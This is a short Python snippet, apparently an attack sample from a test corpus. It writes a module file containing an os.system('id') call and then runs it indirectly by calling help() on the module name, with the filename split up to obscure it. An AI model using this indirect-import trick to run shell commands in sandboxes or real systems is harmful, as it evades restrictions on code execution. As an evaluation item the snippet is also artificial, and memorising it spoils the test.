# corpus: attack class=eval form=targeted
# help() imports the module a string names, here one the program wrote.
def main():
    name = "guide"
    with open(name + ".p" + "y", "w") as handle:
        handle.write("import os\nos.system('id')\n")
    help(name)
    return {"done": True}
